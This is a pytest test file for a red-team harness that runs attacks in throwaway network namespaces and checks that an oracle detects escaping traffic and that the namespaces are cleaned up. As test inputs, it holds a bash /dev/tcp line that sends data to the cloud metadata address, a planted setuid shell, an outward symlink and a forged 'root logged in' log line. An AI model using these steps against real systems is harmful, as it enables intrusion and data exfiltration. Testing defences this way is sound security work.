"""The red team's own means: its attacks arrive where nothing is defended, its oracle counts what arrives, and nothing of its ground stays."""

import os
import re
import socket
import subprocess
import sys
import time
from collections import Counter
from dataclasses import replace
from pathlib import Path

import pytest

from hatchway.domain.errors import Conflict
from hatchway.redteam import leftovers
from hatchway.redteam.acts import ACTS
from hatchway.redteam.attacks import ATTACKS, CLASSES, CONDITIONS, Attack, chosen
from hatchway.redteam.attacks.meanwhile import DOCUMENTS
from hatchway.redteam.attempts import BLOCKED, BYPASS, INVALID, Attempt, judge
from hatchway.redteam.commands import alone
from hatchway.redteam.ground import Ground, lacking, standing
from hatchway.redteam.looking import beside, in_the_copy, on_this_host
from hatchway.redteam.marks import Oracle, Tail, new_mark
from hatchway.redteam.naive import prove
from hatchway.redteam.report import counts, lines, named, table


def _first_of_each_row() -> list[Attack]:
    """And the first of each act of the host's; of those acts in which each attack has a place of its own, that alone."""
    rows: dict[str, Attack] = {}
    for one in ATTACKS:
        alone = bool(one.during) and ACTS[one.during].alone
        rows.setdefault(one.during if alone else f"{one.row} {one.during}" if one.during else one.row, one)
    return list(rows.values())


@pytest.fixture
def _namespaces() -> None:
    if why := lacking():
        pytest.skip(f"{why}: that attacks arrive where nothing is defended was not shown")


def _links() -> str:
    names = subprocess.run(["ip", "-o", "link"], capture_output=True, text=True, check=True).stdout
    rules = subprocess.run(["ip", "rule"], capture_output=True, text=True, check=True).stdout
    return names + rules


@pytest.mark.usefixtures("_namespaces")
def test_one_attack_of_each_row_arrives_where_nothing_is_defended() -> None:
    """All of them: `hatchway redteam --prove`."""
    done = prove(_first_of_each_row(), lambda _: None)
    assert named(done, [BLOCKED, INVALID]) == ""
    assert {one.verdict for one in done} == {BYPASS}


@pytest.mark.usefixtures("_namespaces")
def test_a_ground_leaves_nothing_also_when_it_is_broken_off() -> None:
    grounds: list[Ground] = []

    def broken_off() -> None:
        with standing(naive=False, users=frozenset({65_000})) as ground:
            grounds.append(ground)
            assert f"hwrt{ground.run}" in _links()
            assert "65000-65000" in _links()
            raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        broken_off()
    run, folder = grounds[0].run, grounds[0].folder
    assert run not in _links()
    assert "65000-65000" not in _links()
    assert not folder.exists()
    assert not any(run in name for name in os.listdir("/run/netns"))


@pytest.mark.usefixtures("_namespaces")
def test_what_is_sent_to_addresses_of_nobody_by_those_who_carry_arrives() -> None:
    """The oracle sees what a gateway would let out: the same octets, from the gateway's user, are seen."""
    mark = new_mark()
    script = f"exec 3<>/dev/tcp/169.254.169.254/80; printf {mark} >&3; head -c 4 <&3"
    with standing(naive=False, users=frozenset({65_001})) as ground:
        command = ["setpriv", "--reuid", "65001", "--clear-groups", "bash", "-c", script]
        done = subprocess.run(command, capture_output=True, check=False)
        assert done.returncode == 0, done.stderr.decode()
        assert "a site, port 80" in ground.oracle.where(mark)


@pytest.mark.usefixtures("_namespaces")
def test_a_question_that_this_host_asks_and_a_frame_on_any_of_its_links_are_seen() -> None:
    """What a gateway that asks on would do, and a slot that forwards: no server of the ground has part in it."""
    asked, sent = new_mark(), new_mark()
    link, peer = f"hwtd{os.getpid()}", f"hwte{os.getpid()}"
    subprocess.run(["ip", "link", "add", link, "type", "veth", "peer", "name", peer], check=True)
    try:
        for end in (link, peer):
            subprocess.run(["ip", "link", "set", end, "up"], check=True)
        with standing(naive=False) as ground:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
                sock.sendto(asked.encode(), ("127.0.0.53", 53))
                sock.sendto(sent.encode(), ("127.0.0.53", 9))
            with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
                sock.bind((link, 0))
                sock.send(b"\xff" * 12 + b"\x88\xb6" + sent.encode())
            until = time.monotonic() + 20
            while not (ground.oracle.where(asked) and ground.oracle.where(sent)) and time.monotonic() < until:
                time.sleep(0.01)
            assert ground.unseen() == 0
    finally:
        subprocess.run(["ip", "link", "del", link], check=True)
    assert ground.oracle.where(asked) == ["a name server of this host"]
    assert {one.rstrip("0123456789") for one in ground.oracle.where(sent)} <= {
        "the interface hwtd",
        "the interface hwte",
    }
    assert ground.oracle.where(sent)


_KILLED = """
import sys, time
from hatchway.redteam.ground import Ground
ground = Ground(naive=sys.argv[1] == "naive", users=frozenset({65_002, 65_003}))
if ground.naive:
    import subprocess
    subprocess.Popen(ground.guest_command("sleep", "1000"))
print(ground.run, ground.folder, flush=True)
time.sleep(1000)
"""


@pytest.mark.usefixtures("_namespaces")
@pytest.mark.parametrize("kind", ["naive", "joined"])
def test_what_a_killed_run_leaves_is_removed_and_what_a_living_one_has_is_not(kind: str) -> None:
    with standing(naive=False, users=frozenset({65_004})) as living:
        process = subprocess.Popen([sys.executable, "-c", _KILLED, kind], stdout=subprocess.PIPE, text=True)
        assert process.stdout is not None
        run, folder = process.stdout.readline().split()
        assert run not in leftovers.remove()
        process.kill()
        process.wait()
        process.stdout.close()
        assert any(run in name for name in os.listdir("/run/netns"))
        assert ("65002-65002" in _links()) == (kind == "joined")
        assert run in leftovers.remove()
        assert run not in _links()
        assert not any(f"{user}-{user}" in _links() for user in (65_002, 65_003))
        assert not any(run in name for name in os.listdir("/run/netns"))
        assert not Path(folder).exists()
        assert run not in leftovers.remove()
        assert f"hwrt{living.run}" in _links()
        assert "65004-65004" in _links()
        assert living.folder.exists()


def test_a_process_that_took_the_number_of_another_is_not_taken_for_it() -> None:
    own = leftovers.own_stamp("0abcde")
    assert own.lives
    assert not replace(own, started=own.started - 1).lives


def test_a_ground_that_cannot_be_made_whole_leaves_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    if why := lacking():
        pytest.skip(why)
    monkeypatch.setattr(Ground, "_serve_inside", lambda _: (_ for _ in ()).throw(OSError("no more")))
    before = sorted(os.listdir("/run/netns")) if os.path.isdir("/run/netns") else []
    with pytest.raises(OSError, match="no more"):
        Ground(naive=True)
    assert not [one for one in os.listdir("/run/netns") if one.startswith("hwrt-") and one not in before]


def test_there_are_attacks_of_every_class_and_each_has_a_name_of_its_own() -> None:
    assert len({one.id for one in ATTACKS}) == len(ATTACKS) >= 150
    assert {one.kind for one in ATTACKS} == set(CLASSES.values())
    assert {condition for one in ATTACKS for condition in one.conditions} == set(CONDITIONS)
    for one in ATTACKS:
        compile(one.script, one.id, "exec")
    assert {one.during for one in ATTACKS} == {"", *ACTS}
    assert {f"{row}.document-{step}" for row, step in DOCUMENTS} <= {one.id for one in ATTACKS}
    assert [one.id for one in chosen("H08.chunked-cl")] == ["H08.chunked-cl"]
    assert {one.row for one in chosen("H08.chunked-cl, D01")} == {"H08", "D01"}
    assert chosen("nothing") == ()


def test_one_run_at_a_time_attacks_a_service(tmp_path: Path) -> None:
    (tmp_path / "run").mkdir()
    with alone(tmp_path), pytest.raises(Conflict, match="run_under_way"), alone(tmp_path):
        pass
    with alone(tmp_path):
        pass


def test_a_marker_counts_in_any_case_and_in_two_pieces() -> None:
    oracle, mark = Oracle(), new_mark()
    tail = Tail(oracle, "a site")
    tail.note(b"GET /" + mark[:7].upper().encode())
    assert oracle.where(mark) == []
    tail.note(mark[7:].upper().encode() + b" HTTP/1.1")
    assert oracle.where(mark) == ["a site"]


def test_verdicts_go_by_what_arrived_and_what_was_not_tried_is_no_success() -> None:
    oracle = Oracle()
    attack = ATTACKS[0]
    arrived, kept, failed, silent, read = (Attempt(attack, "index") for _ in range(5))
    oracle.note("a site", arrived.mark.encode())
    told = '{{"mark": "{}", "tried": ["x"], "said": ["{}"], "why": "{}"}}'
    printed = "\n".join(
        [
            told.format(arrived.mark, "", "NameError"),
            told.format(kept.mark, "", ""),
            told.format(failed.mark, "", "nothing was tried"),
            told.format(read.mark, "says honey-1", ""),
            "not JSON",
        ]
    )
    attempts = [arrived, kept, failed, silent, read]
    judge(attempts, printed, oracle, "honey-1")
    assert [one.verdict for one in attempts] == [BYPASS, BLOCKED, INVALID, INVALID, BYPASS]
    assert counts(attempts) == {"attacks": 1, "bypasses": 2, "invalid": 2}
    assert "2 of 5" in table(attempts)
    assert lines(attempts, 1.0).count("\n") == 5


def test_the_rows_in_the_documentation_are_those_that_there_are() -> None:
    text = (Path(__file__).parents[2] / "docs" / "redteam.md").read_text()
    rows = Counter(one.row for one in ATTACKS)
    told = dict(re.findall(r"\b([A-Z]\d\d) (\d+)(?=,| \|)", text))
    assert {row: int(number) for row, number in told.items()} == dict(rows)


def test_what_a_guest_leaves_on_this_host_is_seen(tmp_path: Path) -> None:
    mark, around = new_mark(), tmp_path / "around"
    copy = around / "here"
    copy.mkdir(parents=True)
    (copy / "fine").write_text(mark)
    (copy / "link").symlink_to("fine")
    assert beside(around, mark) == in_the_copy(copy, "honey-1") == []
    (around / "outside").write_text(f"changed by {mark}")
    (copy / "out").symlink_to("../outside")
    (copy / "read").write_text("says honey-1")
    (copy / "sh").write_text("")
    (copy / "sh").chmod(0o4755)
    assert beside(around, mark) == ["a file of this host, beside the copy"]
    assert sorted(in_the_copy(copy, "honey-1")) == [
        "a link out of the copy",
        "a program with another user's rights",
        "another name of a file of this host",
    ]


def test_a_line_that_a_guest_began_and_a_name_that_it_gave_are_seen_in_the_services_folders(tmp_path: Path) -> None:
    quoted, begun, named = new_mark(), new_mark(), new_mark()
    log = tmp_path / "log"
    log.mkdir()
    (log / "node.log").write_text(f'{{"message": "{quoted}"}}\n {begun} root logged in\n')
    (tmp_path / f"x{named}").touch()
    assert on_this_host([tmp_path], quoted) == []
    assert on_this_host([tmp_path], begun) == ["a line of its own in a log"]
    assert on_this_host([tmp_path], named) == ["a file of the service"]
